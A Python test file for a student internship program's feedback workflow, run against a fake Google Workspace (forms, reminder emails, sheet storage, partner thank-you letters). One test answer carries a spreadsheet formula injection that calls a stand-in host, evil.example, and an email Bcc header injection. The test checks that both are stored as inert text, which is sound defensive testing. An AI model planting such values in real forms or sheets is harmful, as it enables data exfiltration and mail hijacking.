"""Feedback and the partner's thank-you against the fake Workspace: real Forms, Gmail and Sheets."""

from __future__ import annotations

from collections import Counter
from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

from adapters.conftest import PROGRAM_USER, SPREADSHEET_ID, GoogleProgram, forms_made, tab_calls
from fakeworkspace import FakeWorkspace

from microintern.bootstrap import step_context
from microintern.domain import program_sheet as sheet
from microintern.domain.feedback import (
    IMPROVE_KEY,
    LEARNED_KEY,
    SESSION_KEY,
    SHARE_KEY,
    TESTIMONIAL_KEY,
    feedback_spec,
    rating_key,
)
from microintern.domain.forms import FormSpec
from microintern.domain.participation import APPLICANT_KEY
from microintern.steps.appreciation import thank_partners
from microintern.steps.context import StepContext
from microintern.steps.feedback import request_feedback
from microintern.steps.program_forms import ensure_forms, id_setting
from microintern.steps.setup import initialise
from microintern.steps.sheet.feedback import feedback_languages

LA = ZoneInfo("America/Los_Angeles")
SESSION = "cyber-basics"                  # one meeting, 2027-03-16 15:30 Pacific
DAY_2 = datetime(2027, 3, 18, 6, 30, tzinfo=LA)
STUDENTS = {  # id: (first name, language, Attended, minutes)
    "A-0000001": ("Maya", "en", "yes", 90),
    "A-0000002": ("Sofía", "es", "yes", 75),
    "A-0000003": ("Jordan", "en", "yes", 88),
    "A-0000004": ("Lily", "en", "no", 10),
}
SHARED = "Marisol showed us how a real attack unfolds, and let us stop it ourselves."
PRIVATE = "Esto es solo para el programa: la empresa no debe verlo."
LONG_PRIVATE = PRIVATE + "\r\n" + "Mucho más. " * 460             # about 5 KB, with CR/LF


def context(program: GoogleProgram, now: datetime) -> StepContext:
    return step_context(program.config, now, env={})


def seat(program: GoogleProgram) -> None:
    roster = context(program, DAY_2).ports.roster
    initialise(program.config, roster)
    roster.upsert(sheet.APPLICATIONS, sheet.APPLICANT_ID, [
        {sheet.APPLICANT_ID: applicant, sheet.LANGUAGE: language, "First name": first,
         "Last name": "Test", "School email address": f"s{applicant[-1]}@students.mesavalley.example",
         "Parent or guardian email": f"g{applicant[-1]}@family.example",
         "Parent or guardian name": "A parent", sheet.DECISION: "Accept"}
        for applicant, (first, language, _, _) in STUDENTS.items()])
    roster.upsert(sheet.PARTICIPANTS, sheet.APPLICANT_ID, [
        {sheet.APPLICANT_ID: applicant, sheet.SESSION_ID: SESSION, sheet.PLACEMENT: sheet.PLACED,
         sheet.ATTENDED: was, sheet.MINUTES: minutes}
        for applicant, (_, _, was, minutes) in STUDENTS.items()])
    roster.upsert(sheet.PARTNERS, sheet.PARTNER_ID, [
        {sheet.PARTNER_ID: "solis-cyber", "Organization": "Solis Cyber Defense",
         sheet.PARTNER_STATUS: "session built"}])


def tab(fake: FakeWorkspace, name: str, key: str) -> dict[str, dict[str, object]]:
    rows = fake.sheets.values(SPREADSHEET_ID, name)
    header = rows[0]
    return {str(r[header.index(key)]): dict(zip(header, r, strict=False)) for r in rows[1:] if r}


def sent(fake: FakeWorkspace) -> Counter[tuple[str, str]]:
    found: Counter[tuple[str, str]] = Counter()
    for message in fake.gmail.sent(PROGRAM_USER):
        _, letter, recipient, _ = str(message.message["X-Microintern-Key"]).split("/")
        found[(letter, recipient)] += 1
    return found


def answer(fake: FakeWorkspace, spec: FormSpec, response_id: str, when: datetime,
           values: dict[str, str]) -> None:
    settings = {row[0]: row[1] for row in fake.sheets.values(SPREADSHEET_ID, sheet.SETTINGS)[1:] if row}
    ids = spec.question_ids()
    fake.forms.add_response(settings[id_setting(spec)], response_id, when.astimezone(UTC),
                            {ids[key]: value for key, value in values.items() if value})


def test_feedback_form_letters_answers_and_the_partners_thanks(
        fake: FakeWorkspace, google_program: GoogleProgram) -> None:
    config = google_program.config
    seat(google_program)
    english, spanish = feedback_spec(config, "en"), feedback_spec(config, "es")
    ratings = config.feedback.ratings

    fake.reset_calls()
    result = request_feedback(context(google_program, DAY_2), [SESSION])
    assert result.counts["sent"] == 3
    assert forms_made(fake) == 2
    first_run = {api: fake.count(f"{api}.") for api in ("sheets", "forms", "gmail")}
    # The first run also makes the Settings tab and seeds the Sessions tab; the roster reads
    # back its write of cells.
    assert first_run["sheets"] <= 17 and first_run["gmail"] == 6      # a draft and a send per letter
    assert first_run["forms"] == 10
    forms = {spec.name: fake.forms.get(settings_id) for spec, settings_id in (
        (english, tab(fake, sheet.SETTINGS, sheet.SETTING)[id_setting(english)][sheet.SETTING_VALUE]),
        (spanish, tab(fake, sheet.SETTINGS, sheet.SETTING)[id_setting(spanish)][sheet.SETTING_VALUE]))}
    assert all(form.published and form.accepting_responses for form in forms.values())
    assert "¿Qué aprendiste?" in [item["title"] for item in forms["feedback-es"].items]
    attendees = ("A-0000001", "A-0000002", "A-0000003")
    assert sent(fake) == Counter({("feedback_request", a): 1 for a in attendees})
    (sofia,) = [m.message for m in fake.gmail.sent(PROGRAM_USER)
                if "A-0000002" in m.message["X-Microintern-Key"]]
    assert sofia["To"] == "s2@students.mesavalley.example"
    assert sofia["Cc"] is None and "Hola" in sofia.get_body(("plain",)).get_content()

    # A rerun the same day sends nothing and makes no form.
    fake.reset_calls()
    request_feedback(context(google_program, DAY_2 + timedelta(hours=1)), [SESSION])
    assert forms_made(fake) == 0 and fake.count("gmail.users.messages.send") == 0
    assert fake.count("gmail.users.drafts.send") == 0

    when = DAY_2 + timedelta(hours=12)
    answer(fake, english, "resp-maya", when, {
        APPLICANT_KEY: "A-0000001", SESSION_KEY: SESSION,
        **{rating_key(r): v for r, v in zip(ratings, ("5", "5", "4"), strict=True)},
        LEARNED_KEY: "=IMPORTXML(\"https://evil.example\", \"//a\")",
        IMPROVE_KEY: "More time\r\nBcc: someone@evil.example", TESTIMONIAL_KEY: SHARED, SHARE_KEY: "Yes"})
    answer(fake, spanish, "resp-sofia", when, {
        APPLICANT_KEY: "A-0000002", SESSION_KEY: SESSION,
        **{rating_key(r): v for r, v in zip(ratings, ("4", "3", "4"), strict=True)},
        LEARNED_KEY: "Mucho", IMPROVE_KEY: "ñ" * 5000, TESTIMONIAL_KEY: LONG_PRIVATE, SHARE_KEY: "No"})
    answer(fake, english, "resp-stranger", when, {APPLICANT_KEY: "A-9999999", SESSION_KEY: SESSION,
                                                  rating_key(ratings[0]): "1"})
    day_3 = request_feedback(context(google_program, DAY_2 + timedelta(days=1)), [SESSION])
    assert day_3.counts["answered"] == 2 and "sent" not in day_3.counts
    assert any("resp-stranger" in p and "not a placed student" in p for p in day_3.problems)
    rows = tab(fake, sheet.FEEDBACK, sheet.FEEDBACK_KEY)
    assert set(rows) == {"resp-maya", "resp-sofia", f"average:{SESSION}"}
    maya = rows["resp-maya"]
    assert maya[sheet.FEEDBACK_LEARNED] == "=IMPORTXML(\"https://evil.example\", \"//a\")"
    assert maya[sheet.FEEDBACK_IMPROVE] == "More time\r\nBcc: someone@evil.example"
    assert maya[sheet.FEEDBACK_SHARE] == "Yes" and maya[sheet.APPLICANT_ID] == "A-0000001"
    assert rows["resp-sofia"][sheet.FEEDBACK_IMPROVE] == "ñ" * 5000
    assert rows["resp-sofia"][sheet.FEEDBACK_TESTIMONIAL] == LONG_PRIVATE        # 5 KB, as given
    assert rows["resp-sofia"][sheet.FEEDBACK_SHARE] == "No" and rows["resp-sofia"][sheet.LANGUAGE] == "es"
    average = rows[f"average:{SESSION}"]
    assert [float(str(average[r])) for r in ratings] == [4.5, 4.0, 4.0]
    assert float(str(average[sheet.FEEDBACK_RESPONSES])) == 2
    assert fake.sheets.formulas(SPREADSHEET_ID) == []           # written RAW: text, never a formula
    participants = tab(fake, sheet.PARTICIPANTS, sheet.APPLICANT_ID)
    assert participants["A-0000001"][sheet.FEEDBACK_RETURNED] == "2027-03-18"
    assert not participants["A-0000003"].get(sheet.FEEDBACK_RETURNED)

    # A rerun with nothing new writes nothing to the sheet.
    fake.reset_calls()
    request_feedback(context(google_program, DAY_2 + timedelta(days=1, hours=1)), [SESSION])
    assert fake.count("sheets.spreadsheets.values.batchUpdate") == 0
    # One read of the tabs, one of Settings; per language a forms.get to sync and one to read.
    assert fake.count("sheets.") == 4 and fake.count("forms.") == 6 and fake.count("gmail.") == 0

    # Day 4: the one reminder goes to the attendee who has not answered; never again.
    for days in (2, 2, 3, 7):
        request_feedback(context(google_program, DAY_2 + timedelta(days=days)), [SESSION])
    assert sent(fake)[("feedback_reminder", "A-0000003")] == 1
    assert [k for k in sent(fake) if k[0] == "feedback_reminder"] == [("feedback_reminder", "A-0000003")]

    # Day 5: the partner's thanks, once, with only the testimonial the student allowed.
    day_5 = DAY_2 + timedelta(days=3)
    thanks = thank_partners(context(google_program, day_5), [SESSION])
    assert thanks.counts["sent"] == 1
    fake.reset_calls()
    again = thank_partners(context(google_program, day_5 + timedelta(days=1)), [SESSION])
    assert "sent" not in again.counts and fake.count("gmail.") == 0 and fake.count("forms.") == 0
    (letter,) = [m.message for m in fake.gmail.sent(PROGRAM_USER)
                 if "/partner_thanks/" in str(m.message["X-Microintern-Key"])]
    assert letter["To"] == "m.ortega@soliscyber.example"
    text = letter.get_body(("plain",)).get_content()
    html = letter.get_body(("html",)).get_content()
    assert SHARED in text and "- Maya" in text and SHARED in html
    assert PRIVATE not in text and PRIVATE not in html and "Sofía" not in text
    assert "students.mesavalley.example" not in letter.as_string()
    assert "3 of the 4 students invited attended" in text
    assert "The session overall: 4.5" in text and "4.50" not in text   # one decimal, as the report
    assert tab(fake, sheet.PARTNERS, sheet.PARTNER_ID)["solis-cyber"][sheet.PARTNER_STATUS] == "thanked"
    assert max(sent(fake).values()) == 1


def test_feedback_forms_are_the_shared_program_forms(
        fake: FakeWorkspace, google_program: GoogleProgram) -> None:
    """Feedback forms go through program_forms.ensure_forms, as every other form does."""
    config = google_program.config
    seat(google_program)
    specs = {language: feedback_spec(config, language) for language in feedback_languages(config)}
    # Made beforehand by the shared helper: the feedback step finds them and makes none.
    made = ensure_forms(context(google_program, DAY_2), specs)
    assert forms_made(fake) == 2
    fake.reset_calls()
    result = request_feedback(context(google_program, DAY_2), [SESSION])
    assert result.counts["sent"] == 3 and forms_made(fake) == 0
    assert fake.count("forms.forms.batchUpdate") == 0           # in line with the config already
    settings = tab(fake, sheet.SETTINGS, sheet.SETTING)
    assert {language: settings[id_setting(spec)][sheet.SETTING_VALUE]
            for language, spec in specs.items()} == {lang: s.form_id for lang, s in made.items()}
    # The Settings tab's rows are read once for both languages' forms (its header is checked
    # once too, as a new run makes sure the tab exists).
    reads = [c.query["ranges"] for c in tab_calls(fake, sheet.SETTINGS)
             if c.method_id == "sheets.spreadsheets.values.batchGet"]
    assert reads == [["'Settings'!1:1"], ["'Settings'"]]
